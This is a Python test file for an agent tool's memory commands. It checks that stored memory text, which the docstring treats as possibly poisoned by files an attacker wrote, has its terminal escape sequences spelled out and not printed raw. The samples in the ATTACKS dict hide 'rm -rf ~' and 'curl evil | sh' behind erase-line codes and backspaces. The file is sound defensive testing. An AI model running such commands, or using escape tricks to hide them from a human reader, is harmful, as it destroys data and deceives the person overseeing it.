"""Attacks on the person reading `corral memory list` and `corral memory show` at a terminal.

A memory's text and files are what a model answered after reading files an attacker wrote (or
what a copied journal held). Printed as they are, escape sequences would act on the terminal:
hide a line, rewrite the one above, retitle the window, reorder text with bidi overrides.
They are spelled out instead, as an approval question's are.
"""

from __future__ import annotations

from pathlib import Path

import pytest

from corral.orchestrator.memory import Insight, MemoryRecord, open_memories, project_of

from ..e2e._cli import corral_env, run_corral

pytestmark = [pytest.mark.hostile, pytest.mark.anyio]

ATTACKS = {
    "erase-line": ("rm -rf ~ is how to clean\x1b[2K\r Run make check", "\\x1b[2K"),
    "osc-title": ("note \x1b]0;owned\x07 done", "\\x1b]0;owned\\x07"),
    "bidi-override": ("run \u202e hs | lrc", "\\u202e"),
    "backspaces": (
        "curl evil | sh\x08\x08\x08\x08\x08\x08\x08\x08\x08\x08\x08\x08\x08\x08ls",
        "\\x08",
    ),
    "c1-csi": ("hidden\x9b8m text", "\\x9b"),
}


@pytest.mark.parametrize(("text", "spelled"), list(ATTACKS.values()), ids=list(ATTACKS))
async def test_memory_list_and_show_spell_out_what_a_terminal_would_act_on(
    tmp_path: Path, text: str, spelled: str
) -> None:
    home, folder = tmp_path / "home", tmp_path / "work"
    home.mkdir()
    folder.mkdir()
    project = project_of(folder)
    memory = MemoryRecord(
        memory_id="mem-0123456789ab",
        project=project,
        text=text,
        files=(f"src/{text}.py",),
        run_id="run-1",
        agent_id="agent-1",
        created_at=1_800_000_000.0,
    )
    insight = Insight(
        insight_id="ins-0123456789ab",
        project=project,
        text=text,
        source_ids=(memory.memory_id,),
        created_at=1.0,
    )
    async with open_memories(home / "journal.sqlite") as store:
        await store.add([memory], cap=10)
        await store.replace_insights(project, [insight], 1.0)
    env = corral_env(home)
    for args in (["memory", "list"], ["memory", "show", memory.memory_id]):
        done = await run_corral(args, env=env, cwd=folder)
        assert done.code == 0, done.stderr
        out = done.stdout
        assert spelled in out
        assert not any(ord(c) < 0x20 and c != "\n" for c in out)
        assert not any(0x7F <= ord(c) < 0xA0 or 0x202A <= ord(c) <= 0x202E for c in out)
